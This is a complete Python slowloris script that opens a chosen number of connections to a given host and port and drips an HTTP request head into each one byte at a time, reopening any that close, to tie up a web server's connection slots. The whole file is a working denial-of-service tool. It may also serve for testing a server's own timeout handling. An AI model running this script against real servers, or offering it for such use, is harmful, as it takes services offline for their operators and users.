#!/usr/bin/env python3
"""Holds many connections open by dripping a head into each, byte by byte, until it is ended. usage: slowloris.py HOST PORT COUNT"""

import selectors
import socket
import sys
import time

HEAD = b"GET /pets HTTP/1.1\r\nHost: a\r\n" + b"".join(b"X-%d: abcdefgh\r\n" % number for number in range(60))
PAUSE_SECONDS = 1.0


def main():
    host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    chosen = selectors.DefaultSelector()
    dripped = {}

    def open_one():
        connection = socket.create_connection((host, port))
        connection.setblocking(False)
        chosen.register(connection, selectors.EVENT_READ)
        dripped[connection] = 0

    def give_up(connection):
        chosen.unregister(connection)
        del dripped[connection]
        connection.close()

    for _ in range(count):
        open_one()
    print("dripping", flush=True)
    while True:
        started = time.monotonic()
        for number, (connection, sent) in enumerate(list(dripped.items())):
            try:
                connection.send(HEAD[sent:sent + 1])
                dripped[connection] = sent + 1
            except OSError:
                give_up(connection)
            # Spread over the second, not all at once.
            if number % 20 == 19:
                time.sleep(max(0, started + PAUSE_SECONDS * number / count - time.monotonic()))
        for key, _ in chosen.select(0):
            give_up(key.fileobj)
        while len(dripped) < count:
            open_one()


if __name__ == "__main__":
    main()
